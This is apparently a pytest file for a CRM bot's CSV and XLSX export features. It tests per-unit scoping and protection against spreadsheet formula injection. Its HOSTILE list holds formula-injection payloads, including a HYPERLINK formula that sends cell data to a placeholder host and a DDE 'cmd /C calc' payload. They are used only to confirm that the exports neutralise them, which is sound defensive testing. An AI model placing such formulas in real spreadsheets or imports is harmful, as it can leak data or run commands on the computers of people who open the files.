"""Exports: CSV and XLSX from the CLI for the whole company or one unit, and /export in chat as a file,
limited to the manager's scope."""
import csv
import io
from datetime import timedelta
from decimal import Decimal

from openpyxl import load_workbook
from sqlalchemy import select

from bot.cli import main as fieldcrm
from bot.messages import Incoming
from bot.services.core import identity
from bot.services.leads import imports
from db.base import utcnow
from db.models import Customer, Lead, OrgUnit, User, Visit
from db.models.deal import Deal
from tests.conftest import say


def seed(db):
    now = utcnow()
    with db.uow() as uow:
        for handle in ("li", "sam"):
            user = identity.find_user(uow, handle)
            customer = Customer(name=f"{handle.upper()} 客户 Co", name_key=f"{handle}co", owner_id=user.id)
            uow.session.add(customer)
            uow.session.flush()
            uow.session.add(Deal(name=f"{handle} deal", customer_id=customer.id, owner_id=user.id,
                                 stage="won", amount=Decimal("1234.50"), won_at=now))
            uow.session.add(Visit(user_id=user.id, customer_id=customer.id, started_at=now - timedelta(days=3),
                                  verdict="verified", counts=True, note=f"{handle} visit"))
        uow.commit()


def test_cli_exports_csv_and_xlsx_for_one_unit(db, demo_org, tmp_path, monkeypatch, capsys):
    seed(db)
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("DATABASE_URL", db.url)
    out = tmp_path / "deals.csv"
    assert fieldcrm(["export", "deals", "--unit", "East Team", "--out", str(out)]) == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert [r["name"] for r in rows] == ["li deal"] and rows[0]["owner"] == "li" and rows[0]["amount"] == "1234.50"
    assert "Exported 1 row of" in capsys.readouterr().out
    book = tmp_path / "customers.xlsx"
    assert fieldcrm(["export", "customers", "--out", str(book)]) == 0
    sheet = load_workbook(book).active
    values = list(sheet.values)
    assert values[0][:2] == ("id", "name") and {v[1] for v in values[1:]} == {"LI 客户 Co", "SAM 客户 Co"}
    today = utcnow().date()
    visits = tmp_path / "visits.csv"
    assert fieldcrm(["export", "visits", "--since", str(today), "--out", str(visits)]) == 0
    assert len(visits.read_text(encoding="utf-8-sig").splitlines()) == 1  # both visits are 3 days old
    assert fieldcrm(["export", "visits", "--unit", "Mars", "--out", str(visits)]) == 2
    assert 'no unit "Mars"' in capsys.readouterr().err
    assert fieldcrm(["export", "visits", "--out", str(tmp_path / "v.pdf")]) == 2
    assert not (tmp_path / "v.pdf").exists()


def test_export_in_chat_is_a_file_of_what_the_manager_may_see(db, demo_org, router, monkeypatch):
    seed(db)
    with db.uow() as uow:
        east = uow.session.scalar(select(OrgUnit.id).where(OrgUnit.name == "East Team"))
        uow.session.add(User(handle="eastboss", name="East Boss", unit_id=east, role="manager",
                             data_scope="subtree", locale="en"))
        uow.commit()
        from bot.services.core import org

        org.link_console_identity(uow, identity.find_user(uow, "eastboss").id, "eastboss", utcnow())
        uow.commit()

    def ask(who, line):
        name, _, args = line.partition(" ")
        return router.handle(Incoming(platform="console", workspace="local", chat_id=f"@{who}", user_id=who,
                                      command=name, args=args))[0]

    reply = ask("eastboss", "export deals --format csv")
    assert reply.file_name.endswith(".csv") and "1 row in" in reply.text
    text = reply.file_bytes.decode("utf-8-sig")
    assert "li deal" in text and "sam deal" not in text
    reply = ask("eastboss", "export visits")
    assert reply.file_name.endswith(".xlsx")
    sheet = load_workbook(io.BytesIO(reply.file_bytes)).active
    assert [row[-1] for row in sheet.values][1:] == ["li visit"]
    assert ask("eastboss", "export deals --unit West Team").text == 'There is no unit "West Team".'
    assert "after --until" in ask("eastboss", "export deals --since 2026-02-01 --until 2026-01-01").text
    assert ask("li", "export deals").file_bytes is None  # reps cannot export


def test_export_usage_errors(console):
    assert "Usage" in say(console, "/export planets")


HOSTILE = ['=HYPERLINK("http://x/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


def seed_hostile(db) -> None:
    """Leads named like formulas come in through an import as typed; a refund is a negative amount."""
    text = io.StringIO()
    csv.writer(text).writerows([["company", "contact"], *[[name, "=1+1"] for name in HOSTILE]])
    with db.uow() as uow:
        assert imports.import_leads(uow, text.getvalue().encode(), "x.csv", "demo pool", utcnow()).created == 4
        li = identity.find_user(uow, "li")
        customer = Customer(name="Refund Co", name_key="refundco", owner_id=li.id)
        uow.session.add(customer)
        uow.session.flush()
        uow.session.add(Deal(name="-refund", customer_id=customer.id, owner_id=li.id, stage="won",
                             amount=Decimal("-1234.50"), won_at=utcnow()))
        uow.commit()
    with db.uow() as uow:  # imports keep the names as typed: they are only dangerous in a spreadsheet
        assert set(HOSTILE) <= set(uow.session.scalars(select(Lead.company)))


def assert_csv_is_inert(text: str) -> list[dict]:
    rows = list(csv.DictReader(io.StringIO(text)))
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    return rows


def assert_xlsx_is_inert(content: bytes) -> list[tuple]:
    sheet = load_workbook(io.BytesIO(content)).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    return list(sheet.values)


def test_formulas_in_names_are_inert_in_chat_exports_and_numbers_stay_numbers(db, demo_org, router):
    seed_hostile(db)

    def export(line: str):
        return router.handle(Incoming(platform="console", workspace="local", chat_id="@admin", user_id="admin",
                                      command="export", args=line))[0]

    leads = assert_csv_is_inert(export("leads --format csv").file_bytes.decode("utf-8-sig"))
    assert {"'" + name for name in HOSTILE} <= {row["company"] for row in leads}
    assert {row["contact"] for row in leads if row["company"].startswith("'")} == {"'=1+1"}
    values = assert_xlsx_is_inert(export("leads").file_bytes)
    assert set(HOSTILE) <= {row[1] for row in values}  # the text as typed, in a text cell
    deals = assert_xlsx_is_inert(export("deals").file_bytes)
    refund = next(row for row in deals if row[1] == "-refund")
    assert refund[5] == -1234.5  # a number, not text
    deals_csv = list(csv.DictReader(io.StringIO(export("deals --format csv").file_bytes.decode("utf-8-sig"))))
    refund = next(row for row in deals_csv if row["name"] == "'-refund")
    assert refund["amount"] == "-1234.50"


def test_formulas_in_names_are_inert_in_cli_exports(db, demo_org, tmp_path, monkeypatch):
    seed_hostile(db)
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("DATABASE_URL", db.url)
    assert fieldcrm(["export", "leads", "--out", str(tmp_path / "leads.csv")]) == 0
    rows = assert_csv_is_inert((tmp_path / "leads.csv").read_text(encoding="utf-8-sig"))
    assert {"'" + name for name in HOSTILE} <= {row["company"] for row in rows}
    assert fieldcrm(["export", "leads", "--out", str(tmp_path / "leads.xlsx")]) == 0
    values = assert_xlsx_is_inert((tmp_path / "leads.xlsx").read_bytes())
    assert set(HOSTILE) <= {row[1] for row in values}
    sheet = load_workbook(tmp_path / "leads.xlsx").active
    marked = [cell.quotePrefix for row in sheet.iter_rows(min_row=2) for cell in row if cell.value in HOSTILE]
    assert marked and all(marked)  # shown as typed text, and kept text when edited
